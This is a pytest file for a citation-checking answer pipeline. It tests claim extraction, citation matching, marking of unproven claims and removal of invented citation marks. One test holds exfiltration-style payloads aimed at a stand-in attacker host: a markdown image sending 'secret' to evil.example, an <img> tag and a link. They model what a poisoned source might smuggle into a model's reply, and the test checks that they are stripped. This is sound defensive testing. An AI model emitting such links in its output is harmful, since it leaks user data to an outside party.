"""What a model says, proved and made safe on its way out."""

from pathlib import Path

import pytest

from pipelines.answering.answer import Answer, Proof, Token, answer
from pipelines.claims.answer_sentences import claim_ranges
from pipelines.llms.mock import Mock
from pipelines.types import Hit, PageLocator

LINES = (
    "The X-200 weighs 5 kg.",
    "Tighten the rotor nut to 5.5 Nm.",
    "Never open the lid while the rotor turns.",
)
BOXES = tuple((0.1, 0.1 * (i + 1), 0.9, 0.1 * (i + 1) + 0.02) for i in range(len(LINES)))


def _hits() -> list[Hit]:
    text, spans = " ".join(LINES), []
    for i, line in enumerate(LINES):
        start = text.index(line)
        spans.append((start, start + len(line), 0, i))
    page = PageLocator(page=3, boxes=BOXES, page_width=600, page_height=800)
    manual = Hit(
        fragment_id="f1", version_id="v", source_id="s", title="Manual", filename="manual.pdf",
        source_type="pdf", score=1.0, ordinal=0, text=text, kind="text", locators=(page,),
        spans=tuple(spans),
    )  # fmt: skip
    return [
        manual,
        manual.model_copy(update={"fragment_id": "f2", "text": "Oil is drained yearly."}),
    ]


def _answered(tmp_path: Path, reply: str, question: str = "What?") -> tuple[Answer, list]:
    path = tmp_path / "reply.md"
    path.write_text(reply, encoding="utf-8")
    said = Answer()
    items = list(answer(question, _hits(), Mock(path), said))
    assert "".join(item.text for item in items if isinstance(item, Token)).strip() == said.text
    return said, items


def test_a_citation_stands_on_the_sentences_own_line(tmp_path: Path) -> None:
    said, items = _answered(tmp_path, "Tighten the rotor nut to 5.5 Nm. [1]")
    (proof,) = [item for item in items if isinstance(item, Proof)]
    assert proof.quote == LINES[1]
    assert proof.locators[0].boxes == (BOXES[1],)
    assert [claim.verdict for claim in said.claims] == ["verified"]


def test_an_uncited_sentence_is_cited_where_a_passage_carries_it(tmp_path: Path) -> None:
    reply = "The X-200 weighs 5 kg. It can fly to Paris. Tighten the rotor nut to 9 Nm. [1]"
    said, _ = _answered(tmp_path, reply)
    assert said.text == (
        "The X-200 weighs 5 kg. [1] It can fly to Paris. [unproven] "
        "Tighten the rotor nut to 9 Nm. [2] [unproven]"
    )
    assert [(c.verdict, c.citations) for c in said.claims] == [
        ("verified", (1,)),
        ("unsupported", ()),
        ("unsupported", (2,)),
    ]
    assert "number: 9 Nm" in said.claims[2].missing
    assert "5.5 Nm -> 9 Nm" in said.claims[2].changed


def test_every_line_of_a_list_is_a_claim_and_headings_are_none(tmp_path: Path) -> None:
    reply = (
        "## Care\nHere is what I found:\n\n1. Tighten the rotor nut to 5.5 Nm.\n"
        "2. Never open the lid while the rotor turns [1].\n\nDo you need more?\n"
        "```\nx = a[1]\n```\n"
    )
    said, _ = _answered(tmp_path, reply)
    assert [(c.text, c.verdict) for c in said.claims] == [
        ("Tighten the rotor nut to 5.5 Nm.", "verified"),
        ("Never open the lid while the rotor turns.", "verified"),
    ]
    assert "x = a[1]" in said.text
    assert said.text.count("[1]") == 2


def test_marks_that_name_nothing_are_removed_and_counted(tmp_path: Path) -> None:
    said, _ = _answered(tmp_path, "Oil is drained yearly [2][7] [8,9].")
    assert said.invented_marks == 3
    assert [claim.citations for claim in said.claims] == [(1,)]
    assert "7" not in said.text


def test_what_a_source_smuggled_in_is_never_streamed(tmp_path: Path) -> None:
    reply = (
        "Oil is drained yearly. [2] ![x](http://evil.example/?q=secret) "
        "<img src=http://evil.example/a> See [this](http://evil.example) or "
        "https://shop.example/oil now."
    )
    said, items = _answered(tmp_path, reply, "Is https://shop.example/oil right?")
    for item in items:
        if isinstance(item, Token):
            assert "evil.example/?q" not in item.text
            assert "<img" not in item.text
    assert "](" not in said.text
    assert "https://shop.example/oil" in said.text
    assert said.removed_links == 4


def test_unsegmented_text_is_cited_sentence_by_sentence(tmp_path: Path) -> None:
    path = tmp_path / "reply.md"
    path.write_text("温度は高い。圧力は低い。", encoding="utf-8")
    hit = _hits()[1].model_copy(update={"text": "温度は高い。圧力は低い。", "spans": ()})
    said = Answer()
    list(answer("?", [hit], Mock(path), said))
    assert [(c.text, c.verdict) for c in said.claims] == [
        ("温度は高い。", "verified"),
        ("圧力は低い。", "verified"),
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Yes. The pump is blue. [1]", [("The pump is blue.", (1,))]),
        ("# Title\n**Bold heading**\n- One pump [1]\n", [("One pump", (1,))]),
        ("| Model | Speed |\n|---|---|\n| X-200 | 15 rpm [1] |",
         [("X-200 | 15 rpm", (1,))]),
        ("Is it blue? It is `a[1]` blue [2].", [("It is `a[1]` blue.", (2,))]),
        ("Based on the sources:\nIt is blue.", [("It is blue.", ())]),
        ("It is 5 kg [1] and red [2].", [("It is 5 kg and red.", (1, 2))]),
        ("", []),
    ],
)  # fmt: skip
def test_what_claims_something(text: str, expected: list) -> None:
    places = claim_ranges(text)
    assert [(place.text, place.numbers) for place in places] == expected
    assert all(text[place.start : place.end].strip() for place in places)


@pytest.mark.parametrize(
    "line",
    [
        "Power consumption. [1]", "Fig. 3 [1]", "Figure 3: Overview of the system [1]",
        "Table 2: Technical data [1]", "3.2 Power consumption", "Installation and maintenance [1].",
        "Chapter 3: Cooling", "Technische Daten und Wartung [1]", "Reinigung des Geräts",
        "Consommation de courant [1]", "Instalação e manutenção", "ポンプの仕様 [1]", "펌프의 사양",
    ],
)  # fmt: skip
def test_what_only_names_something_is_no_claim(line: str) -> None:
    assert claim_ranges(line) == []


@pytest.mark.parametrize(
    "line",
    [
        "Power consumption: 450 W [1]", "X-200 | 15 rpm", "Remove cover", "Check calibration [1]",
        "Avoid contamination.", "The pump needs lubrication.", "Figure 3 shows the pump.", "450 W",
        "Den Deckel nicht öffnen", "Deckel öffnen", "Retirez le capot", "Cierre la tapa",
        "Chiudere il coperchio", "Feche a tampa", "Verwijder het deksel", "La bomba arranca.",
        "打开盖子", "ポンプを開ける", "펌프를 여십시오", "Alpha sells to Beta",
    ],
)  # fmt: skip
def test_what_says_something_is_a_claim_whatever_its_form(line: str) -> None:
    (place,) = claim_ranges(line)
    assert place.start == 0
    (item,) = claim_ranges(f"- {line}")
    assert item.text == place.text


def test_an_item_says_what_the_line_above_its_list_asks_for() -> None:
    answer = (
        "The kit contains:\n- Installation instructions [1]\n- Gel wedge [1]\n\nMaintenance [1]"
    )
    assert [place.text for place in claim_ranges(answer)] == [
        "Installation instructions",
        "Gel wedge",
    ]


def test_a_mark_behind_a_full_stop_ends_the_sentence_even_of_an_abbreviation() -> None:
    answer = "Detects injections: Rebuff: Yes; Garak: No. [1] Offline: Rebuff: No. [1][2] Both."
    assert [(place.text, place.numbers) for place in claim_ranges(answer)] == [
        ("Detects injections: Rebuff: Yes; Garak: No.", (1,)),
        ("Offline: Rebuff: No.", (1, 2)),
        ("Both.", ()),
    ]


def test_a_mark_within_a_sentence_does_not_end_it() -> None:
    (place,) = claim_ranges("The order no. [1] and the part no. [2] are on the plate.")
    assert place.numbers == (1, 2)
